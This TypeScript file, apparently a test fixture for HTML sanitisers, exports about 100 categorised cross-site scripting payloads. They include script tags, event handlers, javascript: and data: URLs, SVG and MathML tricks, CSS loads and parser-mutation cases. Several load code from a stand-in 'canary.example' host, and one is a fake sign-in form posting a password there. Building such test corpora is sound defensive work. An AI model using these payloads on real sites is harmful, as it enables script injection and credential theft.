/**
 * HTML that tries to run a script, to load something or to break out of its context, by kind of attack. Everything that
 * accepts HTML has to withstand all of it. `canary.example` is requested only when an attack works.
 */
export const CANARY_HOST = 'canary.example'

interface Attack {
  kind: string
  payloads: readonly string[]
}

const ATTACKS: readonly Attack[] = [
  {
    kind: 'script',
    payloads: [
      '<script>alert(1)</script>',
      '<ScRiPt src=//canary.example/x.js></sCrIpT>',
      '<script\n>alert(1)</script\n>',
      '<script/src="https://canary.example/x.js"></script>',
      '<scr<script>ipt>alert(1)</scr</script>ipt>',
      '<script type="module">import "https://canary.example/x.js"</script>',
      '<p>before<script>alert(1)//</p>after',
    ],
  },
  {
    kind: 'handler',
    payloads: [
      '<img src=x onerror=alert(1)>',
      '<img/src=x/onerror=alert(1)//',
      '<p onclick=alert(1) onpointerenter=alert(1) style="position:fixed;inset:0">press</p>',
      '<a href="https://canary.example" onfocus=alert(1) autofocus tabindex=1>x</a>',
      '<input autofocus onfocus=alert(1)>',
      '<details open ontoggle=alert(1)>x</details>',
      '<p id=x tabindex=1 onfocusin=alert(1)>x</p>',
      '<video><source onerror=alert(1)></video>',
      '<body onload=alert(1)>x',
      '<span style="animation-name:x" onanimationstart=alert(1)>x</span>',
      '<img src="x" o&#110;error="alert(1)">',
      '<img src="x"\u000conerror="alert(1)">',
      '<img src=`x`onerror=alert(1)>',
    ],
  },
  {
    kind: 'script address',
    payloads: [
      '<a href="javascript:alert(1)">x</a>',
      '<a href="JaVaScRiPt:alert(1)">x</a>',
      '<a href="java\tscript:alert(1)">x</a>',
      '<a href="java\nscript:alert(1)">x</a>',
      '<a href=" &#14; javascript:alert(1)">x</a>',
      '<a href="&#x6A;&#x61;vascript&colon;alert(1)">x</a>',
      '<a href="javascript&#58;alert(1)">x</a>',
      '<a href="vbscript:msgbox(1)">x</a>',
      '<a href="view-source:javascript:alert(1)">x</a>',
      '<a href="//canary.example/x">x</a>',
      '<a href="/\\canary.example">x</a>',
      '<a href="https:javascript:alert(1)">x</a>',
      '<a href="\u0001javascript:alert(1)">x</a>',
      '<a href="javascript\u200b:alert(1)">x</a>',
      '<a href="blob:https://canary.example/1">x</a>',
      '<img src="javascript:alert(1)">',
    ],
  },
  {
    kind: 'svg',
    payloads: [
      '<svg onload=alert(1)>',
      '<svg/onload=alert(1)//',
      '<svg><script>alert(1)</script></svg>',
      '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
      '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
      '<svg><use href="https://canary.example/x.svg#x"></use></svg>',
      '<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>',
      '<svg><set attributeName=href to=javascript:alert(1)></svg>',
    ],
  },
  {
    kind: 'math',
    payloads: [
      '<math href="javascript:alert(1)">x</math>',
      '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
      '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
    ],
  },
  {
    kind: 'style',
    payloads: [
      '<style>@import "https://canary.example/x.css";</style>',
      '<p style="background:url(https://canary.example/x.png)">x</p>',
      '<p style="color:red;background-image:url(//canary.example/x)">x</p>',
      '<span style="color:expression(alert(1))">x</span>',
      '<span style="color:#fff;-moz-binding:url(//canary.example/x)">x</span>',
      '<p style="position:fixed;inset:0;z-index:99999;opacity:0">x</p>',
      '<span style="color:#123456/**/;background-color:url(//canary.example)">x</span>',
      '<span style="background-color:var(--x,url(//canary.example))">x</span>',
      '<link rel=stylesheet href=https://canary.example/x.css>',
    ],
  },
  {
    kind: 'mutation',
    payloads: [
      '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
      '<textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>',
      '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
      '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>',
      '<table><td><p><a href="</p><img src=x onerror=alert(1)>">x</table>',
      '<p><svg><style><a id="</style><img src=x onerror=alert(1)>">',
      '<title><p title="</title><img src=x onerror=alert(1)>"></title>',
      '<select><template><img src=x onerror=alert(1)></template></select>',
      '<img alt="`><img src=x onerror=alert(1)>" src=x>',
      '<option>&lt;img src=x onerror=alert(1)&gt;</option>',
      '<p>&lt;img src=x onerror=alert(1)&gt;</p>',
      '<p>&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;</p>',
    ],
  },
  {
    kind: 'template and shadow',
    payloads: [
      '<template><script>alert(1)</script></template>',
      '<div><template shadowrootmode=open><img src=x onerror=alert(1)></template></div>',
      '<p>{{constructor.constructor("alert(1)")()}} ${alert(1)} #{7*7}</p>',
    ],
  },
  {
    kind: 'data address',
    payloads: [
      '<a href="data:text/html,<script>alert(1)</script>">x</a>',
      '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
      '<img src="data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22 onload=%22alert(1)%22/>">',
      '<object data="data:text/html,<script>alert(1)</script>"></object>',
      '<embed src="data:text/html,<script>alert(1)</script>">',
    ],
  },
  {
    kind: 'srcset',
    payloads: [
      '<img srcset="https://canary.example/a.png 1x, javascript:alert(1) 2x">',
      '<picture><source srcset="https://canary.example/a.png"><img src=x></picture>',
      '<video poster=https://canary.example/p.png></video>',
      '<img src=x lowsrc=https://canary.example/l dynsrc=https://canary.example/d longdesc=javascript:alert(1)>',
    ],
  },
  {
    kind: 'page',
    payloads: [
      '<meta http-equiv=refresh content="0;url=https://canary.example">',
      '<meta http-equiv="Content-Security-Policy" content="default-src *">',
      '<base href="https://canary.example/"><a href="x">x</a>',
      '<base target="_top"><a href="https://canary.example/">x</a>',
      '<a href="https://canary.example/" target="_top" rel="opener" ping="https://canary.example/ping">x</a>',
      '<link rel=prefetch href=https://canary.example/x>',
    ],
  },
  {
    kind: 'form',
    payloads: [
      '<form action="https://canary.example/"><input name=password><button>Sign in</button></form>',
      '<form id=f></form><button form=f formaction=javascript:alert(1)>x</button>',
      '<isindex type=image src=1 onerror=alert(1)>',
      '<button popovertarget=x onclick=alert(1)>x</button>',
    ],
  },
  {
    kind: 'frame',
    payloads: [
      '<iframe src="javascript:alert(1)"></iframe>',
      '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
      '<iframe src="https://canary.example/"></iframe>',
      '<frameset onload=alert(1)><frame src=https://canary.example/></frameset>',
      '<object data="https://canary.example/x.swf"></object>',
      '<embed src="https://canary.example/x.swf">',
      '<portal src="https://canary.example/"></portal>',
    ],
  },
  {
    kind: 'comment and declaration',
    payloads: [
      '<!--><img src=x onerror=alert(1)>-->',
      '<!--!><img src=x onerror=alert(1)>--!><img src=x onerror=alert(1)>',
      '<!-- --!><script>alert(1)</script> -->',
      '<![CDATA[<img src=x onerror=alert(1)>]]>',
      '<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>',
      '<?xml-stylesheet href="javascript:alert(1)"?><p>x</p>',
      '<!DOCTYPE html [<!ENTITY x "<script>alert(1)</script>">]><p>&x;</p>',
      '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
      '<p><!--</p><img src=x onerror=alert(1)>-->',
    ],
  },
  {
    kind: 'entity',
    payloads: [
      '&lt;script&gt;alert(1)&lt;/script&gt;',
      '<p>&#60;script&#62;alert(1)&#60;/script&#62;</p>',
      '<a href="https://canary.example/&quot;onmouseover=&quot;alert(1)">x</a>',
      '<img src="https://canary.example/a.png" alt="&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;">',
      '<p>\u003cscript>alert(1)</p>',
      '<p>+ADw-script+AD4-alert(1)+ADw-/script+AD4-</p>',
      '<p>&#xD800;&#x110000;&#0;</p>',
    ],
  },
  {
    kind: 'clobbering',
    payloads: [
      '<a id=cookie name=cookie href="https://canary.example/">x</a>',
      '<img name=getElementById src=x><form name=body></form>',
      '<p id=root class="overlay dialog" data-autofocus>x</p>',
      '<a id=defaultView><a id=defaultView name=alert href="https://canary.example/">x</a></a>',
      '<p __proto__=x constructor=x>x</p>',
      '<span name=querySelector style="color:#123456" id=documentElement>x</span>',
    ],
  },
]

/** Every attack, with its kind. */
export const XSS_PAYLOADS: readonly { kind: string; html: string }[] = ATTACKS.flatMap(({ kind, payloads }) =>
  payloads.map((html) => ({ kind, html })),
)
